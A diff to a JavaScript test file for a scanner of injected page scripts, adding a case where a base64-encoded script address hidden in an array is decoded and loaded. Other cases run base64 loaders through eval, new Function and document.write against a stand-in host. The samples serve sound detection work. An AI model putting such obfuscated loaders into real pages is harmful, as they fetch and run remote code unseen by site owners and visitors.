@@ -35,6 +35,15 @@ describe('scripts that were put into pages', () => {
     expect(rules(parts.join(''))).toEqual(['javascript.skimmer high']);
   });
 
+  it('finds one whose address stands in a list of pieces', () => {
+    const address = btoa('https://inert.example.test/a.js');
+    const pieces = `var p=['${address}','createElement','script','src'];var s=document[p[1]]('script');s[p[3]]=atob(p[0]);`;
+    expect(rules(`${pieces}document.head.appendChild(s);`)).toEqual(['javascript.hidden-loader high']);
+    expect(rules(`${pieces.replace('atob(p[0])', 'p[0]')}document.head.appendChild(s);`)).toEqual([]);
+    const far = `${' '.repeat(700)}s.src;document.createElement('script');document.head.appendChild(s);`;
+    expect(rules(`var licence=atob('${address}');${far}`)).toEqual([]);
+  });
+
   it.each(['eval(', 'new Function(', 'document.write('])('finds a loader in base64 that %s runs', (run) => {
     const hidden = btoa("var s=document.createElement('script');s.src='//inert.example.test/a.js';");
     expect(rules(`${run}atob('${hidden}'))`)).toEqual(['javascript.hidden-loader high']);
